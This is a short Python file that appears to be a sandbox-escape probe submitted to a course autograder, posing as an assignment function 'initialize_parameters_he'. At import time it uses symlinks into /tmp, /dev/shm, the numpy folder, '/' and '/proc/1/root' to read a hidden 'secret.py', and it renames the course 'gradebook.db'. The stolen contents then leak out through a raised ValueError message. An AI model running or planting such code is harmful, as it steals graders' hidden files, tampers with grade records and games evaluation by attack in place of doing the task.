r"""Make links from folders that may be read, or written to, to those that may not.

Must: nothing can be written, and rights hold for what is opened.
Status: crashed
Says: ValueError: \[\]
"""

import os, numpy

LOOT = []
for target in (os.path.dirname(numpy.__file__) + "/loot", "/tmp/canary-loot", "/dev/shm/canary-loot", "loot"):
    try:
        os.symlink("@course@/source/secret.py", target)
        LOOT.append(open(target).read())
    except OSError:
        pass
for folder in ("@course@", "/", "/proc/1/root"):
    try:
        os.symlink(folder, "folder")
        LOOT.append(open("folder/source/secret.py").read())
        LOOT.append(os.rename("folder/gradebook.db", "folder/lost"))
    except OSError:
        pass


def initialize_parameters_he(layers_dims):
    raise ValueError(str(LOOT))
